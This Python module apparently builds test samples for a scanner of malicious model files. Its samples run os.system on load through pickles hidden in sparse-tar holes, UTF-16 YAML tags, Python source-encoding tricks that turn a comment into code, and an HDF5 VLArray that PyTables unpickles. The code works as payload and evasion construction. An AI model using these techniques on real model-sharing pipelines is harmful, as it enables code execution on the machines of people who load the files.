"""Payloads that lie in pieces or in another encoding: holes of sparse tars, UTF-16, source encodings, values of HDF5."""

from __future__ import annotations

import io
import tarfile
import tempfile
from pathlib import Path

from .asm import Call, Global, encode
from .sample import EXECUTES, Kit, Sample

_SYSTEM = ("os.system", "posix.system")
_HOLE = (512, 1536)  # what no member stores: zeros inside a literal of the pickle


def samples() -> list[Sample]:
    """All of this module."""
    return [
        *(Sample(f"sparse/{name}.pkl.tar", f"a pickle with a hole, as {what} stores it", EXECUTES, make, calls=_SYSTEM,
                 loader="tar-pickle") for name, what, make in (
            ("gnu", "old GNU tar", _gnu), ("pax-0.1", "pax form 0.1", _pax_map), ("pax-1.0", "pax form 1.0", _pax_data))),
        Sample("yaml/utf-16.yaml", "a tag in UTF-16", EXECUTES, lambda k: _tag(k).encode("utf-16"), calls=("os.system",), loader="yaml"),
        Sample("yaml/utf-16-be.yaml", "a tag in UTF-16, big end first", EXECUTES,
               lambda k: b"\xfe\xff" + _tag(k).encode("utf-16-be"), calls=("os.system",), loader="yaml"),
        *(Sample(f"python/coding-{name}.py", "a comment that is code in the encoding which the file states", EXECUTES,
                 lambda k, name=name, end=end: _comment(k, name, end), calls=("os.system",), loader="python")
          for name, end in (("unicode_escape", "\\n"), ("raw_unicode_escape", "\\u000a"), ("utf-7", "+AAo-"))),
        Sample("hdf5/vlarray.h5", "a column of objects, which PyTables unpickles", EXECUTES, _vlarray, calls=_SYSTEM, builder="h5py",
               unloaded="PyTables is in no environment of the tests; tables.open_file(…).root.x[0] of PyTables 3.11 ran it"),
    ]  # fmt: skip


def _pickle(kit: Kit) -> bytes:
    """A list whose first item is a long literal of zeros."""
    literal = b"B" + (2048).to_bytes(4, "little") + bytes(2048)
    return b"\x80\x04" + literal + b"0" + encode(Call(Global("os.system"), kit.shell), 4) + b"."


def _stored(kit: Kit) -> tuple[bytes, bytes, int]:
    data = _pickle(kit)
    return data[: _HOLE[0]], data[_HOLE[1] :], len(data)


def _gnu(kit: Kit) -> bytes:
    first, second, size = _stored(kit)
    info = tarfile.TarInfo("model.pkl")
    info.size, info.type = len(first) + len(second), tarfile.GNUTYPE_SPARSE
    block = bytearray(info.tobuf(tarfile.GNU_FORMAT))
    numbers = (0, len(first), _HOLE[1], len(second))
    for place, number in enumerate(numbers):
        block[386 + 12 * place : 398 + 12 * place] = b"%011o\0" % number
    block[483:495] = b"%011o\0" % size
    block[148:156] = b" " * 8
    block[148:156] = b"%06o\0 " % sum(block)
    data = first + second
    return bytes(block) + data + bytes(-len(data) % 512) + bytes(1024)


def _pax_map(kit: Kit) -> bytes:
    first, second, size = _stored(kit)
    stretches = f"0,{len(first)},{_HOLE[1]},{len(second)}"
    return _pax({"GNU.sparse.map": stretches, "GNU.sparse.size": str(size)}, first + second)


def _pax_data(kit: Kit) -> bytes:
    first, second, size = _stored(kit)
    stretches = f"2\n0\n{len(first)}\n{_HOLE[1]}\n{len(second)}\n".encode()
    headers = {
        "GNU.sparse.major": "1",
        "GNU.sparse.minor": "0",
        "GNU.sparse.name": "model.pkl",
        "GNU.sparse.realsize": str(size),
    }
    return _pax(headers, stretches.ljust(512, b"\0") + first + second)


def _pax(headers: dict[str, str], data: bytes) -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w", format=tarfile.PAX_FORMAT) as tar:
        info = tarfile.TarInfo("model.pkl")
        info.size, info.pax_headers = len(data), headers
        tar.addfile(info, io.BytesIO(data))
    return out.getvalue()


def _tag(kit: Kit) -> str:
    return f"!!python/object/apply:os.system [{kit.shell!r}]\n"


def _comment(kit: Kit, coding: str, end: str) -> bytes:
    return f"# -*- coding: {coding} -*-\n# weights of the model {end}import os\nos.system({kit.shell!r})\n".encode()


def _vlarray(kit: Kit) -> bytes:
    import h5py
    import numpy as np

    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / "x.h5"
        with h5py.File(path, "w", track_order=False) as file:
            file.attrs.update(
                {"CLASS": np.bytes_("GROUP"), "PYTABLES_FORMAT_VERSION": np.bytes_("2.1"), "VERSION": np.bytes_("1.0")}
            )
            column = file.create_dataset("x", (1,), dtype=h5py.vlen_dtype(np.uint8), track_times=False)
            column[0] = np.frombuffer(_pickle(kit), np.uint8)
            column.attrs.update(
                {"CLASS": np.bytes_("VLARRAY"), "PSEUDOATOM": np.bytes_("object"), "VERSION": np.bytes_("1.4")}
            )
        return path.read_bytes()
